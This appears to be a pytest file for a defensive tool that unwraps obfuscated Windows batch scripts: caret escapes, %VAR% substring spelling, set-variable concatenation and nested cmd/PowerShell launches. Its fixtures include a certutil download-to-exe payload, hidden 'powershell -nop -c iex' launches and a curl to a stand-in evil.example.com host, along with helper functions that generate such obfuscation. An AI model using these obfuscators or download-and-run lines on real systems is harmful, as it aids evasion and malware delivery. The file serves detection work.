"""Batch peelers: carets, %VAR% and substrings, nested cmd /c and PowerShell launches."""

from __future__ import annotations

import random
import re
import string

import pytest

from tests.unit.scripts.test_peelers_languages import (
    PEELERS,
    URL,
    Obfuscator,
    assert_recovers,
    contents,
    peel_all,
    rewrite,
    run,
    stack,
    stacks,
)
from wingman.core.scripts.peelers.cmd_vars import substring
from wingman.core.scripts.types import Lang

# No & in the payload: a quoted & cut into `set` pieces would need outer carets once nested.
PAYLOAD = rf"certutil -urlcache -split -f {URL} %TEMP%\p.exe"
_TOKENS = re.compile(r'%[^%\s"]+%|\n|"|.', re.S)
_ENCODABLE = frozenset(string.ascii_letters + string.digits + "./:\\-_=^")


def carets(text: str) -> tuple[str, list[str]]:
    """Put a caret before every letter outside quotes and %references%."""
    out: list[str] = []
    quoted = False
    for token in _TOKENS.findall(text):
        if token in ('"', "\n"):
            quoted = not quoted if token == '"' else False
        elif len(token) == 1 and token.isalpha() and not quoted:
            token = "^" + token
        out.append(token)
    return "".join(out), ["cmd_caret_split"]


def few_carets(text: str) -> tuple[str, list[str]]:
    """Escape two letters of the URL only, as a hand-edited line might."""
    return text.replace("http", "h^tt^p", 1), ["cmd_caret"]


def substrings(text: str) -> tuple[str, list[str]]:
    """Spell every plain character as %_k:~i,1% (or its negative twin) of one key variable."""
    alphabet = sorted({char for char in text if char in _ENCODABLE})
    random.Random(7).shuffle(alphabet)
    key = "".join(alphabet)
    out: list[str] = []
    for count, token in enumerate(_TOKENS.findall(text)):
        if token in key and len(token) == 1:
            index = key.index(token)
            spec = f"{index},1" if count % 2 else f"-{len(key) - index},1"
            token = f"%_k:~{spec}%"
        out.append(token)
    return f'set "_k={key}"\n' + "".join(out), ["cmd_substring_spelled"]


def set_concat(text: str) -> tuple[str, list[str]]:
    """Cut every line into `set "_cN=..."` pieces, then rebuild each line as %_c0%%_c1%..."""
    sets: list[str] = []
    lines: list[str] = []
    for line in text.split("\n"):
        chunks: list[str] = []
        for token in _TOKENS.findall(line):
            if token == '"' or not chunks or chunks[-1] == '"' or len(chunks[-1]) >= 5:
                chunks.append(token)
            else:
                chunks[-1] += token
        names = [f"_c{len(sets) + index}" for index in range(len(chunks))]
        sets += [f'set "{name}={chunk}"' for name, chunk in zip(names, chunks, strict=True)]
        lines.append("".join(f"%{name}%" for name in names))
    return "\n".join(sets + lines), ["cmd_set_command"]


def url_pieces(text: str) -> tuple[str, list[str]]:
    """Keep the URL in two variables joined in an argument, as installers build links."""
    half = len(URL) // 2
    head = f'set "u1={URL[:half]}"\nset "u2={URL[half:]}"\n'
    return head + text.replace(URL, "%u1%%u2%"), ["cmd_set_concat"]


def nested(text: str) -> tuple[str, list[str]]:
    return 'cmd /c "' + " & ".join(text.split("\n")) + '"', ["cmd_nested"]


OBFUSCATORS: dict[str, Obfuscator] = {
    "caret": carets,
    "substring": substrings,
    "set_concat": set_concat,
    "nested": nested,
}
# Everyday tricks that act on the URL itself, so they always come innermost.
FINISHERS: dict[str, Obfuscator] = {"few_carets": few_carets, "url_pieces": url_pieces}
ALL = {**OBFUSCATORS, **FINISHERS}


@pytest.mark.parametrize("names", stacks(list(OBFUSCATORS), list(FINISHERS)), ids="+".join)
def test_stacked_obfuscation_is_recovered_in_order(names: tuple[str, ...]) -> None:
    text, expected = stack(PAYLOAD, [ALL[name] for name in names])
    assert_recovers(text, Lang.BATCH, expected, hidden=names != ("nested",))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("p^o^w^e^r^s^h^e^l^l -nop", "powershell -nop"),
        ('c^m^d /^c ^"x^" y', 'cmd /c "x" y'),
        ("echo a\nc^e^r^tutil -f x\n", "echo a\ncertutil -f x\n"),
    ],
)
def test_carets_inside_words(text: str, expected: str) -> None:
    assert rewrite("cmd_caret_split", text) == expected
    assert contents("cmd_caret", text) == []


def test_many_carets() -> None:
    assert rewrite("cmd_caret_split", "^a" * 10_000) == "a" * 10_000


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('echo "a^b" c^d', 'echo "a^b" cd\n'),
        ("echo a\necho one ^\ntwo\necho b", "echo one two\n"),
        ("^a", "a\n"),
        ("x\nstart ht^tp://h\ny\nc^md /c z", "start http://h\ncmd /c z\n"),
        # escapes of & | < > and quotes, carets in quotes and comments hide nothing
        ("echo a^^b", None),
        ("echo a ^& b 2^>nul ^| more", None),
        ('echo "unterminated ^x', None),
        ("^", None),
        (":: e^cho in a comment\nrem c^md too", None),
    ],
)
def test_few_carets_fill_in_their_lines(text: str, expected: str | None) -> None:
    assert rewrite("cmd_caret_split", text) is None
    assert contents("cmd_caret", text) == ([] if expected is None else [expected])


@pytest.mark.parametrize(
    ("start", "length", "expected"),
    [
        (2, 3, "cde"),
        (-3, None, "hij"),
        (0, -2, "abcdefgh"),
        (-4, 2, "gh"),
        (20, None, ""),
        (3, -20, ""),
        (-20, 2, "ab"),
        (0, 0, ""),
    ],
)
def test_substring_follows_cmd(start: int, length: int | None, expected: str) -> None:
    assert substring("abcdefghij", start, length) == expected


def filled(name: str, text: str) -> str | None:
    """Return the commands an everyday variable peeler fills in, or None when it finds none."""
    assert PEELERS[name].kind == "extract"
    found = contents(name, text)
    assert len(found) <= 1
    return found[0] if found else None


@pytest.mark.parametrize(
    ("reference", "expected"),
    [
        ("%x:~2,3%", "cde"),
        ("%x:~-3%", "hij"),
        ("%x:~0,-2%", "abcdefgh"),
        ("%X:~1,1%", "b"),
        ("%x:abc=XYZ%", "XYZdefghij"),
        ("%x:*d=Q%", "Qefghij"),
        ("%COMSPEC:~-7,3%", "cmd"),
    ],
)
def test_substring_references(reference: str, expected: str) -> None:
    assert filled("cmd_substring", f"set x=abcdefghij\necho {reference}") == f"echo {expected}\n"


@pytest.mark.parametrize(
    "text",
    [
        "echo %y:~1,1%",
        "echo %x:~1,1%\nset x=abc",
        "if 1==1 set x=abc\necho %x:~1,1%",
        "set /p x=Name?\necho %x:~1,1%",
        "set x=abc\nset /a x=1+1\necho %x:~1,1%",
        "if exist a (\n  set x=abc\n)\necho %x:~1,1%",
        "set x=abc\necho %x:~%",
        "set x=abc\necho %x:~a,b%",
        "set x=abc\necho %x:=y%",
        "echo 100%% done %%x:~1,1%%",
        # a value holding an unknown reference reads back, but cutting it would cut the name
        'set x=%x:"=%\necho %x:~1,1%',
    ],
)
def test_substring_leaves_what_it_cannot_know(text: str) -> None:
    assert filled("cmd_substring", text) is None
    assert rewrite("cmd_substring_spelled", text) is None


def test_substring_uses_the_value_at_that_point() -> None:
    text = "set x=abc\necho %x:~1,1%\nset x=xyz\necho %x:~1,1%"
    assert filled("cmd_substring", text) == "echo b\necho y\n"


def test_date_parsing_is_everyday_substring_use() -> None:
    text = "set d=2024-05-17\nset y=%d:~0,4%\nset m=%d:~5,2%\necho %d:~8,2%"
    assert rewrite("cmd_substring_spelled", text) is None
    assert filled("cmd_substring", text) == "echo 17\n"


@pytest.mark.parametrize(
    "text",
    [
        "set k=abcdefghijklmnopqrstuvwxyz\n%k:~15,1%%k:~8,1%%k:~13,1%%k:~6,1% host",
        "%COMSPEC:~-16,1%%COMSPEC:~-1%%COMSPEC:~-13,1% /c echo x",
    ],
)
def test_words_spelled_a_letter_at_a_time_are_obfuscation(text: str) -> None:
    assert rewrite("cmd_substring_spelled", text) is not None
    assert filled("cmd_substring", text) is None


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("set a=pow\nset b=ershell\n%a%%b% -nop", "set a=pow\nset b=ershell\npowershell -nop"),
        ('set "a=pow"\nset "b=er shell"\n%a%%b%', 'set "a=pow"\nset "b=er shell"\npower shell'),
        (
            "set a=ver\nset b=time\nset c=start\n%a%\n%b%\n%c% x.exe",
            "set a=ver\nset b=time\nset c=start\nver\ntime\nstart x.exe",
        ),
        ("set !=dir\nset !!=start\nset !!!=date\n%!%\n%!!% x\n%!!!%", None),
    ],
)
def test_commands_assembled_from_variables(text: str, expected: str | None) -> None:
    found = rewrite("cmd_set_command", text)
    assert found is not None
    assert expected is None or found == expected
    assert filled("cmd_set_concat", text) is None


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("set a=p^ow\necho %a%", "echo pow\n"),
        ('set "a=p^ow"\necho %a%', "echo p^ow\n"),
        ("setlocal EnableDelayedExpansion\nset a=x&echo !a!", "echo x\n"),
        ("set a=pow&set b=ershell&call %a%%b%", "call powershell\n"),
        # tools found through variables holding their paths
        (
            'set "j=C:\\jdk"\n%j%\\bin\\java -version\n%j%\\bin\\javac a.java\n%j%\\bin\\jar c',
            "C:\\jdk\\bin\\java -version\nC:\\jdk\\bin\\javac a.java\nC:\\jdk\\bin\\jar c\n",
        ),
        ('set "u1=http://evil."\nset "u2=example.com/x"\ncurl -o a %u1%%u2%', None),
    ],
)
def test_everyday_variables_fill_in_the_commands_that_use_them(
    text: str, expected: str | None
) -> None:
    assert rewrite("cmd_set_command", text) is None
    found = filled("cmd_set_concat", text)
    assert found is not None
    assert expected is None or found == expected


@pytest.mark.parametrize(
    "text",
    [
        "echo %a%\nset a=1",
        "set a=1&echo !a!",
        "for %%i in (a b) do echo %%i",
        "set a=\necho %a%",
        "echo %PATH%",
        "set a=1\nset b=%a%",
    ],
)
def test_set_concatenation_leaves_unknowns(text: str) -> None:
    assert filled("cmd_set_concat", text) is None
    assert rewrite("cmd_set_command", text) is None


@pytest.mark.parametrize(
    ("text", "expected", "language"),
    [
        ('cmd /c "echo hi & whoami"', "echo hi & whoami", None),
        ("cmd.exe /v:on /q /c echo %x%", "echo %x%", None),
        ("%COMSPEC% /k dir", "dir", None),
        ('start "" cmd /c "powershell -nop -c iex"', "powershell -nop -c iex", Lang.POWERSHELL),
        ("cmd /c echo a ^& echo b", "echo a & echo b", None),
        ('cmd /c "echo a ^& echo b"', "echo a ^& echo b", None),
    ],
)
def test_nested_cmd(text: str, expected: str, language: Lang | None) -> None:
    found = run("cmd_nested", text)
    assert [(item.content, item.language) for item in found] == [(expected, language)]
    assert text[found[0].start : found[0].end].strip('"').replace("^", "") == expected.replace(
        "^", ""
    )


@pytest.mark.parametrize(
    "text", ['echo "cmd /c whoami"', "mycmd /c x", "cmd /c", 'cmd /c ""', "cmdx /c y"]
)
def test_nested_cmd_negative(text: str) -> None:
    assert run("cmd_nested", text) == []


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("@powershell -nop -w hidden -c iex", "powershell -nop -w hidden -c iex"),
        ("start /b powershell.exe -enc AAAA & exit", "powershell.exe -enc AAAA"),
        (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -c x", None),
        ("call pwsh -File a.ps1", "pwsh -File a.ps1"),
    ],
)
def test_powershell_launch(text: str, expected: str | None) -> None:
    found = run("cmd_powershell", text)
    assert [item.language for item in found] == [Lang.POWERSHELL]
    assert found[0].content == (expected or text)


@pytest.mark.parametrize("text", ["echo powershell is fun", 'echo "x & powershell -c y"'])
def test_powershell_launch_negative(text: str) -> None:
    assert contents("cmd_powershell", text) == []


def test_caret_obfuscated_powershell_inside_cmd() -> None:
    layers, stopped = peel_all('cmd /c "p^ow^er^shell -nop -c iex"', Lang.BATCH)
    assert stopped is None
    assert [layer.technique for layer in layers] == ["input", "cmd_nested", "cmd_caret_split"]
    assert layers[-1].content == "powershell -nop -c iex"


def test_dosfuscation_from_comspec() -> None:
    text = "%COMSPEC:~-16,1%%COMSPEC:~-1%%COMSPEC:~-13,1% /c echo x"
    assert rewrite("cmd_substring_spelled", text) == "set /c echo x"
